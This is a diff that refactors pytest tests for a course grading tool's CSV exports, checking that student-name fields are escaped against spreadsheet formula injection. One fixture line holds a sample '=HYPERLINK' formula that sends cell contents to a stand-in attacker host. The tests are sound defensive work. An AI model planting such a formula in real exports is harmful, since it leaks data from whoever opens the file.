@@ -11,17 +11,15 @@ from __future__ import annotations
 
 import csv
 import html
-import subprocess
-import sys
 
 import hostile as H
 import pytest
+from support import grade_cli, read_csv_rows
 
 from rotation_kit.commands.grade.demo import new_course
 from rotation_kit.commands.grade.export import cell, write_csv
 from rotation_kit.commands.grade.integrity import FLAG_KINDS
 from rotation_kit.commands.grade.roster import Learner, import_roster, write_roster
-from rotation_kit.course import tool_env
 
 M = H.MODULE
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
@@ -34,20 +32,7 @@ LEARNERS = [
 
 
 def _cli(*args):
-    result = subprocess.run(
-        [sys.executable, "-m", "rotation_kit.cli", "grade", *args],
-        env=tool_env(),
-        capture_output=True,
-        text=True,
-        timeout=1800,
-    )
-    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
-    return result.stdout
-
-
-def _read(path) -> list[dict[str, str]]:
-    with open(path, newline="", encoding="utf-8") as handle:
-        return list(csv.DictReader(handle))
+    return grade_cli(*args, timeout=1800)
 
 
 @pytest.fixture(scope="module")
@@ -92,7 +77,7 @@ def test_the_report_and_flags_csv_name_what_needs_a_look(exported):
     for kind, meaning in FLAG_KINDS.items():  # the legend
         assert f"<dt><code>{kind}</code></dt><dd>{meaning}</dd>" in section
 
-    rows = _read(out / "flags.csv")
+    rows = read_csv_rows(out / "flags.csv")
     assert list(rows[0]) == [
         "assignment",
         "student_id",
@@ -121,7 +106,7 @@ def test_the_report_and_flags_csv_name_what_needs_a_look(exported):
 @pytest.mark.xdist_group("grading-flags")
 def test_flags_change_no_grade_and_no_export_field_starts_a_formula(exported):
     course, out, _, _ = exported
-    grades = {r["student_id"]: r for r in _read(out / "grades.csv")}
+    grades = {r["student_id"]: r for r in read_csv_rows(out / "grades.csv")}
     assert float(grades["honest"]["score"]) > float(grades["trick"]["score"]) > 0
     # the equality trick and the exit score nothing for ex31, and everything else as the honest learner
     with course.gradebook() as gb:
@@ -138,9 +123,9 @@ def test_flags_change_no_grade_and_no_export_field_starts_a_formula(exported):
         "'@trick@uni.example",
     )
     assert grades["quitter"]["last_name"] == "'-Ortiz"
-    canvas = {r["SIS Login ID"]: r for r in _read(out / "canvas_grades.csv")[1:]}
+    canvas = {r["SIS Login ID"]: r for r in read_csv_rows(out / "canvas_grades.csv")[1:]}
     assert canvas["trick"]["Student"] == "'+Lopez, " + HYPERLINK  # the field starts with "+": quoted once
-    moodle = {r["Username"]: r for r in _read(out / "moodle_grades.csv")}
+    moodle = {r["Username"]: r for r in read_csv_rows(out / "moodle_grades.csv")}
     assert moodle["trick"]["First name"] == "'" + HYPERLINK and moodle["quitter"]["Last name"] == "'-Ortiz"
     for name in ("grades.csv", "canvas_grades.csv", "moodle_grades.csv", "flags.csv"):
         with open(out / name, newline="", encoding="utf-8") as handle:
@@ -148,7 +133,7 @@ def test_flags_change_no_grade_and_no_export_field_starts_a_formula(exported):
                 for field in row:
                     assert not field.startswith(("=", "+", "@", "\t", "\r")), (name, field)
                     assert not field.startswith("-") or float(field) <= 0, (name, field)
-        for r in _read(out / name) if name != "flags.csv" else []:
+        for r in read_csv_rows(out / name) if name != "flags.csv" else []:
             for column in ("score", "raw_score", "max_score"):
                 if column in r:
                     float(r[column])  # numbers stay numbers
